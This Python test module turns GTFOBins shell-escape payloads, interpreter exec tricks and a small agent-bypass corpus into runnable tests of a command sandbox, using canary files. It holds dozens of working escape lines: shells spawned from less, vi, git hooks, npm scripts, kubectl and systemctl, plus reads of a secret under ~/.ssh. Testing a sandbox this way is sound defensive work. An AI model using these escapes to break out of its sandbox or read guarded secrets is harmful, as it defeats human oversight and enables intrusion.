"""The GTFOBins corpus and the interpreter and agent-bypass escapes, made runnable here.

Each corpus entry becomes an `Escape`: a setup run beforehand (files the payload expects),
the payload's own line with its placeholders made concrete, and the keys a person would
type (for an interactive shell: a line that writes the canary with a shell builtin, so
that only the shell running, not a further exec, makes it appear).  `ADAPTED` holds the
entries whose payload needs more than placeholders; every other entry runs as written.

Placeholders: {ws} workspace (a write root), {canary} a file in it, {outside_canary} a
file outside every write root, {cmd} an executable in the workspace that writes the
canary, {secret} a file in a denied root (~/.ssh), {out} a file outside the write roots,
{long} a text file longer than the terminal.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import NamedTuple

CORPUS_DIR = Path(__file__).absolute().parents[2] / "shared" / "corpus"
GTFOBINS = CORPUS_DIR / "gtfobins_escapes.jsonl"
BASE_PATH = ("/usr/local/bin", "/usr/bin", "/bin")
SEARCH_PATH = (*BASE_PATH, "/usr/sbin", "/sbin")
FUNCTIONS = {"shell": "canary", "command": "canary", "file-read": "read", "file-write": "write"}
SECRET = "AgentshSecret7f3a9c"  # no hyphens: groff turns them into U+2010; compared ignoring case
DATA = "AGENTSH-DATA-51e2"
# What a person types into a shell that escaped.  Builtins only: the shell itself running is
# the escape.  The outside canary shows Landlock refusing a write beyond the write roots.
SHELL_KEYS = "echo escaped > {outside_canary}; echo escaped > {canary}; exit\n"


class Escape(NamedTuple):
    id: str  # binary:function:n, n counting that binary's entries of that function
    binary: str  # the program the profile allows (with any arguments)
    kind: str  # "canary" (shell/command), "read" (secret bytes), "write" (a file outside the roots)
    line: str  # what runs under the layers
    keys: tuple[str, ...] = ()
    setup: str = ""  # bash, run unconfined in the workspace first
    seconds: float = 3.0  # time allowed after the line starts (and after the last key)
    rules: str = ""  # profile rules instead of the one allowing `binary`
    profile: str = ""  # extra profile YAML
    path: tuple[str, ...] = ()  # directories put before the profile's path
    teardown: str = ""  # bash, run after the escape (what the setup made outside the workspace)


def _shell(*before: str, after: tuple[str, ...] = ()) -> tuple[str, ...]:
    return (*before, SHELL_KEYS, *after)


def A(line: str, keys: tuple[str, ...] | None = None, setup: str = "", seconds: float = 3.0,
      teardown: str = "", kind: str = "") -> dict:
    return {"line": line, "keys": _shell() if keys is None else keys, "setup": setup, "seconds": seconds,
            "teardown": teardown, "kind": kind}


VI_QUIT = "\x1b:qa!\n"
GIT_SETUP = "git init -q . && git config user.email a@b.c && git config user.name a"
# Entries whose payload needs more than its placeholders filled in: multi-line payloads split
# into setup, line and typed keys; interactive steps typed; system-wide state kept local.
ADAPTED: dict[str, dict] = {
    "apt:shell:1": A("apt update -o APT::Update::Pre-Invoke::=/bin/sh -o Dir::Etc::SourceList=/dev/null"
                     " -o Dir::Etc::SourceParts={ws}/empty -o Dir::State::Lists={ws}/lists"
                     " -o Dir::Cache={ws}/cache -o Debug::NoLocking=true", setup="mkdir -p empty lists/partial"),
    "apt-get:shell:1": A("apt-get update -o APT::Update::Pre-Invoke::=/bin/sh -o Dir::Etc::SourceList=/dev/null"
                         " -o Dir::Etc::SourceParts={ws}/empty -o Dir::State::Lists={ws}/lists"
                         " -o Dir::Cache={ws}/cache -o Debug::NoLocking=true", setup="mkdir -p empty lists/partial"),
    "cmake:shell:0": A("cmake {ws}/cm/", setup="mkdir cm && echo 'execute_process(COMMAND /bin/sh)' >cm/CMakeLists.txt",
                       seconds=8),
    "curl:file-write:0": A("curl file://{ws}/tmpfile -o {out}", (), setup="echo " + DATA + " >tmpfile"),
    "debugfs:shell:0": A("debugfs", ("!/bin/sh\n", SHELL_KEYS, "q\n")),
    "dmsetup:shell:0": A("dmsetup ls --exec '/bin/sh -s'"),
    "dmsetup:shell:1": A("dmsetup ls --exec '/bin/sh -p -s'"),
    "ed:shell:0": A("ed", ("!/bin/sh\n", SHELL_KEYS, "q\n")),
    "red:shell:0": A("red", ("!/bin/sh\n", SHELL_KEYS, "q\n")),
    "ex:shell:0": A("ex -c ':!/bin/sh'", _shell(after=(VI_QUIT,))),
    "gdb:shell:0": A("gdb -nx -ex '!/bin/sh' -ex quit", seconds=6),
    "gdb:shell:1": A("gdb -nx -ex 'python import os; os.setuid(0)' -ex '!/bin/sh' -ex quit", seconds=6),
    "gdb:file-write:0": A("gdb -nx -ex 'dump value {out} \"" + DATA + "\"' -ex quit", (), seconds=6),
    "git:file-write:0": A("git apply --unsafe-paths --directory / x.patch", (),
                          setup="printf -- '--- /dev/null\\n+++ b{out}\\n@@ -0,0 +1 @@\\n+" + DATA + "\\n' >x.patch"),
    "git:shell:1": A("git -C . commit --allow-empty -m x",
                     setup=GIT_SETUP + " && echo 'exec /bin/sh 0<&2 1>&2' >.git/hooks/pre-commit"
                     " && chmod +x .git/hooks/pre-commit"),
    "git:shell:2": A("git --exec-path=. x", setup="ln -s /bin/sh git-x"),
    "git:shell:3": A("git --exec-path=. x -p", setup="ln -s /bin/sh git-x"),
    "ip:shell:0": A("ip netns exec {netns} /bin/sh", setup="ip netns add {netns}",
                     teardown="ip netns delete {netns}"),
    "ip:shell:1": A("ip netns exec {netns} /bin/sh -p", setup="ip netns add {netns}",
                     teardown="ip netns delete {netns}"),
    "ip:shell:2": A("ip netns exec {netns} /bin/sh", setup="ip netns add {netns}",
                     teardown="ip netns delete {netns}"),
    "java:shell:0": A("java Shell", seconds=8, setup=(
        "printf '%s\\n' 'public class Shell { public static void main(String[] a) throws Exception {'"
        " '  new ProcessBuilder(\"/bin/sh\").inheritIO().start().waitFor(); } }' >Shell.java && javac Shell.java")),
    "jshell:shell:0": A("jshell", ('Runtime.getRuntime().exec("{cmd}");\n', "/exit\n"), seconds=15),
    "kubectl:shell:0": A("kubectl get pods --kubeconfig={ws}/kubeconfig", seconds=8, setup=(
        "printf '%s\\n' 'clusters:' '- cluster:' '    server: https://127.0.0.1:1' '  name: x' 'contexts:'"
        " '- context:' '    cluster: x' '    user: x' '  name: x' 'current-context: x' 'users:' '- name: x' '  user:'"
        " '    exec:' '      apiVersion: client.authentication.k8s.io/v1' '      interactiveMode: Always'"
        " '      command: /bin/sh' '      args:' \"        - '-c'\" \"        - '/bin/sh 0<&2 1>&2'\" >kubeconfig")),
    "ld.so:shell:0": A("/usr/bin/ld.so /bin/sh"),
    "ld.so:shell:1": A("/usr/bin/ld.so /bin/sh -p"),
    # ~/.lessfilter is run by lesspipe, which less runs when LESSOPEN names it
    "less:command:0": A("LESSOPEN='|lesspipe %s' less {long}", ("q",), setup="cp {cmd} ~/.lessfilter"),
    "less:command:1": A("LESSOPEN='{cmd} # %s' less {long}", ("q",)),
    "less:file-read:0": A("less {secret}", ("q",)),
    "less:file-read:1": A("less {long}", (":e {secret}\n", "q")),
    "less:file-read:2": A("LESSOPEN='echo {secret} # %s' less {long}", ("q",)),
    "less:file-write:0": A("echo " + DATA + " | less", ("s{out}\n", "q")),
    "less:shell:0": A("less {long}", ("!/bin/sh\n", SHELL_KEYS, "\n", "q")),
    "less:shell:1": A('LESSOPEN="/bin/sh -s 1>&0 2>&0 # %s" less {long}', _shell(after=("q",))),
    "less:shell:2": A("VISUAL='/bin/sh -s --' less {long}", ("v", SHELL_KEYS, "q")),
    "loginctl:shell:0": A("loginctl user-status", ("!/bin/sh\n", SHELL_KEYS, "q")),
    "man:file-read:0": A("man {secret}", ("q",)),
    "more:file-read:0": A("more {secret}", ("q",)),
    "more:shell:0": A("more {long}", ("!", "/bin/sh\n", SHELL_KEYS, "q")),
    "mv:file-write:0": A("mv {ws}/tmpfile {out}", (), setup="echo " + DATA + " >tmpfile"),
    "nohup:command:0": A("nohup {cmd}", ()),
    "npm:shell:0": A("npm exec /bin/sh", seconds=10),
    "npm:shell:1": A("npm -C . i", seconds=10, setup="""echo '{"scripts": {"preinstall": "/bin/sh"}}' >package.json"""),
    "npm:shell:2": A("npm -C . run xxx", seconds=10, setup="""echo '{"scripts": {"xxx": "/bin/sh"}}' >package.json"""),
    "nroff:shell:0": A("GROFF_BIN_PATH=. nroff", _shell(after=("\x04",)), setup="echo /bin/sh >groff && chmod +x groff"),
    "pic:shell:0": A("pic -U", (".PS\n", "sh X sh X\n", SHELL_KEYS, "\x04")),
    "psql:shell:0": A("psql", ("\\! /bin/sh\n", SHELL_KEYS, "\\q\n")),
    "run-parts:shell:2": A("run-parts {ws}/tmpdir/", setup="mkdir tmpdir && cp /bin/sh tmpdir/"),
    "run-parts:shell:3": A("run-parts {ws}/tmpdir/ --arg='-p'", setup="mkdir tmpdir && cp /bin/sh tmpdir/"),
    "scp:shell:0": A("scp -S {ws}/tmpfile x x:", setup="echo 'exec /bin/sh 0<&2 1>&2' >tmpfile && chmod +x tmpfile"),
    "sed:shell:1": A("sed e", ("/bin/sh\n", SHELL_KEYS, "\x04")),
    "sftp:shell:0": A("sftp user@attacker.invalid", ("!/bin/sh\n", SHELL_KEYS, "quit\n")),
    "sg:shell:0": A("sg root"),  # $(id -ng) is root here; `id` would be an exec of its own
    "sqlite3:file-read:0": A("sqlite3", ("CREATE TABLE x(x TEXT);\n", ".import {secret} x\n", "SELECT * FROM x;\n",
                                         ".quit\n")),
    "systemctl:shell:0": A("systemctl link {ws}/tmpfile.service && systemctl enable --now {ws}/tmpfile.service", (),
                           setup="printf '[Service]\\nType=oneshot\\nExecStart={cmd}\\n[Install]\\n"
                           "WantedBy=multi-user.target\\n' >tmpfile.service"),
    "systemctl:shell:1": A("SYSTEMD_EDITOR={ws}/tmpfile systemctl edit basic.target",
                           setup="echo /bin/sh >tmpfile && chmod +x tmpfile"),
    "systemd-run:command:0": A("systemd-run {cmd}", ()),
    "tar:file-write:0": A("tar Pxf {ws}/tmpfile.tar --xform s@.*@{out}@", (),
                          setup="echo " + DATA + " >tmpfile && tar cf tmpfile.tar tmpfile"),
    "tar:shell:3": A("tar xf {ws}/tmpfile.tar --to-command /bin/sh",
                     setup="echo '/bin/sh 0<&1' >tmpfile && tar cf tmpfile.tar tmpfile"),
    "tclsh:shell:0": A("tclsh", ("exec /bin/sh <@stdin >@stdout 2>@stderr\n", SHELL_KEYS, "exit\n")),
    "tmux:shell:0": A("TMUX_TMPDIR={ws} tmux -c /bin/sh"),  # its server socket in the workspace, not /tmp
    "top:shell:0": A("top", ("\n", "\n", SHELL_KEYS, "q"), seconds=4,
                     setup="mkdir -p ~/.config/procps && printf 'pipe\\tx\\texec /bin/sh 1>&0 2>&0\\n'"
                     " >>~/.config/procps/toprc"),
    "vi:file-read:0": A("vi {secret}", (VI_QUIT,)),
    "vi:file-write:0": A("vi {out}", ("i" + DATA + "\x1b", ":wq\n")),
    "vi:shell:0": A("vi -c ':!/bin/sh' /dev/null", _shell(after=("\n", VI_QUIT))),
    "vi:shell:1": A("vi -c ':shell'", _shell(after=(VI_QUIT,))),
    "vi:shell:2": A("vi -c ':set shell=/bin/sh | shell'", _shell(after=(VI_QUIT,))),
    "vi:shell:3": A("vi -c ':set shell=/bin/sh\\ -p | shell'", _shell(after=(VI_QUIT,))),
    "vi:shell:4": A("vi -c ':terminal /bin/sh'", _shell(after=(VI_QUIT,))),
    "vi:shell:5": A("vi -c ':terminal /bin/sh -p'", _shell(after=(VI_QUIT,))),
    # GTFOBins files this under file-read, but it writes a file
    "vim:file-read:0": A("vim -c ':redir! >{out} | echo \"" + DATA + "\" | redir END | q'", (), kind="write"),
    "wget:shell:0": A("wget --use-askpass={ws}/tmpfile 0",
                      setup="printf '#!/bin/sh\\n/bin/sh 1>&0\\n' >tmpfile && chmod +x tmpfile"),
    "wget:shell:1": A("wget --use-askpass={ws}/tmpfile 0",
                      setup="printf '#!/bin/sh -p\\n/bin/sh -p 1>&0\\n' >tmpfile && chmod +x tmpfile"),
    "zic:command:0": A("zic -d . -y {cmd} {ws}/tmpfile", (),
                       setup="echo 'Rule Jordan 0 1 xxx Jan lastSun 2 1:00d -' >tmpfile"
                       " && echo 'Zone Test 2:00 Jordan CE%sT' >>tmpfile"),
    "zip:file-read:0": A("zip {ws}/tmpfile.zip {secret} && unzip -p {ws}/tmpfile.zip", ()),
}


def corpus_rows() -> list[dict]:
    return [json.loads(line) for line in GTFOBINS.read_text().splitlines() if line.strip()]


def installed(binary: str) -> str | None:
    return shutil.which(binary, path=":".join(SEARCH_PATH))


def corpus_escapes() -> tuple[list[Escape], list[str]]:
    """The runnable escapes of installed programs, and the ids of entries whose program is missing."""
    seen: dict[tuple[str, str], int] = {}
    escapes, missing = [], []
    for row in corpus_rows():
        binary, function = row["binary"], row["function"]
        n = seen.get((binary, function), 0)
        seen[binary, function] = n + 1
        if function not in FUNCTIONS:
            continue
        ident = f"{binary}:{function}:{n}"
        if installed(binary) is None:
            missing.append(ident)
            continue
        kind = FUNCTIONS[function]
        adapted = ADAPTED.get(ident) or A(_placeholders(row["payload"]), None if kind == "canary" else ())
        kind = adapted["kind"] or kind
        keys = adapted["keys"] if kind == "canary" or ident in ADAPTED else ()
        escapes.append(Escape(ident, binary, kind, adapted["line"], tuple(keys), adapted["setup"],
                              adapted["seconds"], teardown=adapted["teardown"]))
    return escapes, missing


def _placeholders(payload: str) -> str:
    return (payload.replace("/path/to/input-file", "{secret}").replace("/path/to/output-file", "{out}")
            .replace("/path/to/command", "{cmd}").replace("/path/to/temp-file", "{ws}/tmpfile")
            .replace("DATA", DATA))


# -- interpreters, beyond the corpus: every way each one runs a program --------------------------
def _i(ident: str, binary: str, line: str, kind: str = "canary", keys: tuple[str, ...] = ()) -> Escape:
    return Escape(ident, binary, kind, line, keys)


INTERPRETERS = [
    _i("python3:os.system", "python3", "python3 -c 'import os; os.system(\"touch {canary}\")'"),
    _i("python3:subprocess", "python3", "python3 -c 'import subprocess; subprocess.run([\"touch\", \"{canary}\"])'"),
    _i("python3:shell=True", "python3", "python3 -c 'import subprocess; subprocess.run(\"touch {canary}\", shell=True)'"),
    _i("python3:popen", "python3", "python3 -c 'import os; os.popen(\"touch {canary}\").read()'"),
    _i("python3:posix_spawn", "python3",
       "python3 -c 'import os; os.waitpid(os.posix_spawn(\"/usr/bin/touch\", [\"touch\", \"{canary}\"], {}), 0)'"),
    _i("python3:execl-sh", "python3", "python3 -c 'import os; os.execl(\"/bin/sh\", \"sh\")'", keys=_shell()),
    _i("python3:pty.spawn", "python3", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", keys=_shell()),
    _i("python3:ctypes-system", "python3", "python3 -c 'import ctypes; ctypes.CDLL(None).system(b\"touch {canary}\")'"),
    _i("python3:write", "python3", "python3 -c 'open(\"{out}\", \"w\").write(\"" + DATA + "\")'", "write"),
    _i("python3:read", "python3", "python3 -c 'print(open(\"{secret}\").read())'", "read"),
    _i("perl:system", "perl", "perl -e 'system(\"touch\", \"{canary}\")'"),
    _i("perl:backticks", "perl", "perl -e '`touch {canary}`'"),
    _i("perl:exec-list", "perl", "perl -e 'exec {\"/bin/sh\"} \"sh\"'", keys=_shell()),
    _i("perl:pipe-open", "perl", "perl -e 'open(my $s, \"|-\", \"/bin/sh\"); print $s \"echo escaped > {canary}\\n\"'"),
    _i("perl:write", "perl", "perl -e 'open(my $f, \">\", \"{out}\") or die; print $f \"" + DATA + "\"'", "write"),
    _i("perl:read", "perl", "perl -e 'open(my $f, \"<\", \"{secret}\") or die \"$!\\n\"; print <$f>'", "read"),
    _i("node:execSync", "node", "node -e 'require(\"child_process\").execSync(\"touch {canary}\")'"),
    _i("node:execFileSync", "node", "node -e 'require(\"child_process\").execFileSync(\"/usr/bin/touch\", [\"{canary}\"])'"),
    _i("node:spawn-sh", "node", "node -e 'require(\"child_process\").spawnSync(\"/bin/sh\", {stdio: \"inherit\"})'",
       keys=_shell()),
    _i("awk:system", "awk", "awk 'BEGIN { system(\"touch {canary}\") }'"),
    _i("awk:print-pipe", "awk", "awk 'BEGIN { print \"echo escaped > {canary}\" | \"/bin/sh\" }'"),
    _i("awk:getline-pipe", "awk", "awk 'BEGIN { \"touch {canary}\" | getline }'"),
    _i("awk:write", "awk", "awk 'BEGIN { print \"" + DATA + "\" > \"{out}\" }'", "write"),
]

# -- the agent-bypass corpus: its entries about what runs at exec time --------------------------
BYPASSES = [
    Escape("bypass-12:find-exec-grep-denied-file", "find", "read", "find . -name '*.json' -exec grep -h pattern {} ';'",
           rules="  - {name: find, run: find, decision: allow}\n  - {name: grep, run: grep, decision: allow}\n",
           profile='read: {deny: ["{workspace}/config/appsettings.json"]}\n',
           setup="mkdir config && echo 'pattern " + SECRET + "' >config/appsettings.json"),
    Escape("bypass-32:git-status-fsmonitor", "git", "canary", "git status --short",
           setup=GIT_SETUP + " && git config core.fsmonitor 'touch {canary}; false'"),
    Escape("bypass-37:allowed-script-evals-its-argument", "script.sh", "canary", "{ws}/script.sh 'touch {canary}'",
           rules="  - {name: script, run: \"{ws}/script.sh\", decision: allow}\n", path=("{ws}",),
           setup="printf '#!/bin/sh\\neval \"$1\"\\n' >script.sh && chmod +x script.sh"),
]
